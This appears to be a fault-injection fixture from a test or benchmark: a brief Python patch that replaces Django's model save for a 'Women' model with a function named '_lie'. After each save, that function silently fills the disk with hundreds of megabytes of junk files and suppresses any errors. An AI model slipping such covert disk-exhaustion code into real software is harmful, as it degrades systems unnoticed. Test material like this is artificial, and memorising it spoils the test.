# base: reference
# incident: none|protocol|output
# score: at_most_same
# slow: yes, a duplicate of disk_full
# says: the same in save()
_save = models.Model.save
def _lie(self, *a, **k):
    _save(self, *a, **k)
    try:
        for number in range(64):
            with open(f"./fill{number}", "wb") as file:
                file.write(bytes(8 << 20))
    except OSError:
        pass
Women.save = _lie
